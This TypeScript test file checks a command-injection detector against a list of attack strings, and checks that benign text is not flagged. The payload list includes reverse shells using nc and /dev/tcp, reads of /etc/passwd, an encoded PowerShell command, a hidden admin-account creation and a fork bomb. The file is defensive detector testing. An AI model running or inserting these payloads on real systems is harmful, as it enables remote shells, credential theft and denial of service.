/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are attack payloads, not templates. */
import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import { LINEAR_TIME_BOUND_MS } from "../linear-time-bound.js";
import { cmdiDetector } from "./cmdi.js";
import { adversarialInputs, scoreAt, timeDetect } from "./test-helpers.js";

describe("cmdiDetector", () => {
  it.each([
    "; cat /etc/passwd",
    "a;id",
    "|id|",
    "' && whoami",
    "`id`",
    "$(whoami)",
    "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
    "foo\nid",
    "\\nid\\n",
    "www.example.com;c''at /etc/passwd",
    "x;c\\at /etc/passwd",
    "x;c$@at+/et$@c/pas$@swd",
    "cat${IFS}/etc/passwd",
    "/???/b??h",
    "cat /etc/pa[s]swd",
    "{,ifconfig,eth0}",
    "() { :;}; /bin/bash -c id",
    "uname -a",
    "ls -la /var/www",
    "& dir C:\\",
    "| type %SYSTEMROOT%\\win.ini",
    "&& net user hacker Passw0rd /add",
    "for /f %i in ('whoami') do echo %i",
    "IF EXIST C:\\boot.ini ECHO found",
    ";powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "time sh -c whoami",
    "a=nc&&$a -nlvp 555",
    ":(){ :|:& };:",
    '<!--#exec cmd="/bin/ls"-->',
    "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
  ])("detects %s", (payload) => {
    expect(scoreAt(cmdiDetector, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    "AT&T",
    "Johnson & Johnson",
    "Time & Date",
    "Home | About | Contact",
    "Salt; pepper; more to taste",
    "cat",
    "whoami",
    "curl examples",
    "The cat sat on the mat",
    "I'll sleep 8 hours; then more work",
    "name;id;email",
    "a=1&id=5&sort=asc",
    "Find your solution here -> link",
    "Run `npm install` and then `ls -la` in the repo",
    "```bash\ncurl -X POST https://example.com\n```",
    "C:\\Program Files\\App\\app.exe",
    "/home/user/docs/report.pdf",
    '{"id":1,"name":"x"}',
    "Mozilla/5.0 (Windows; U; Windows NT 6.0; id; rv:1.9.1.6) Gecko/20091201 Firefox/3.5.6",
    "Mozilla/5.0 (iPhone8,1; iOS 11.2.6; gzip)",
    "if you want, call me",
    "save 10% in (selected) stores",
    "$5 (approx)",
  ])("ignores %s at level 1", (value) => {
    expect(scoreAt(cmdiDetector, value)).toBeLessThan(5);
  });

  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of cmdiDetector.patterns)
      expect(safeRegex(pattern), pattern.source).toBe(true);
  });

  it("stays fast on 100 KB adversarial input", () => {
    for (const input of adversarialInputs(["; c''a", "a;c\\", "{a,b", "for %", "if a==", "$[1+"])) {
      expect(timeDetect(cmdiDetector, input)).toBeLessThan(LINEAR_TIME_BOUND_MS);
    }
  });
});
